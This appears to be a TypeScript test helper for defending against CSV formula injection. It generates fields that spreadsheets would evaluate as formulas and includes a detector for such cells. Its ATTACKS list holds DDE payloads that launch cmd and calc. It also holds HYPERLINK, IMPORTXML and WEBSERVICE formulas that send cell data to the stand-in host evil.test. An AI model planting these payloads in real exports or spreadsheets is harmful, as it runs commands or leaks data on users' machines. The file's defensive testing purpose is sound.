import { type CastingContext, parse } from 'csv-parse/sync';

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﬩'];
const BEFORE = [
  '',
  ' ',
  '\u00A0',
  '\u3000',
  '\u200B',
  '\uFEFF',
  '\t',
  '\r',
  '\n',
  '\0',
  "'",
  "''",
  '"',
  ';',
  ',',
  'a;',
  'a,',
  'a\t',
  'a\n',
  'a\r\n',
  'a;"',
  'a";',
  "a; '",
  '\t\n',
];
const ATTACKS = [
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=IMPORTXML("http://evil.test/","//a")',
  '=WEBSERVICE("http://evil.test/")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '";=1+1;"',
  '\r\n=1+1;',
];

/** Fields in which some spreadsheet of some country sees a formula, and harmless ones that look like it. */
export const FORMULA_FIELDS: readonly string[] = [
  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)),
  ...ATTACKS,
  ...ATTACKS.map((attack) => `b;${attack};c`),
  '-90.2',
  "'s Gravenweg",
  "it's 3-4",
  'x@y.test',
  '(=1)',
  '- gate 4\n- dock 2',
];

const LOOKS_LIKE_FORMULA = /^["\s\p{C}\p{Z}]*[=+\-@]/u;
const looksLikeFormula = (cell: string): boolean => LOOKS_LIKE_FORMULA.test(cell.normalize('NFKC'));

/** Cells as an independent reader sees them: text where quoted, numbers elsewhere. */
export function readCells(text: string): (string | number | null)[][] {
  const cast = (value: string, { quoting }: CastingContext) => (quoting ? value : value === '' ? null : Number(value));
  return parse(text, { bom: true, cast, relax_column_count: false }) as (string | number | null)[][];
}

/**
 * Cells of a CSV that run: as RFC 4180 has them, and as programs that separate by semicolon, tab or line only, for which quotation marks inside a line mean nothing.
 * Text without quotation marks that is no number is one too.
 */
export function runningCells(text: string): string[] {
  const cells = readCells(text).flat();
  const texts = cells.filter((cell) => typeof cell === 'string');
  const broken = cells.filter((cell) => typeof cell === 'number' && Number.isNaN(cell)).map(String);
  const pieces = text.replace(/^\uFEFF/, '').split(/[;\t\r\n]/);
  return [...texts, ...pieces].filter(looksLikeFormula).concat(broken);
}
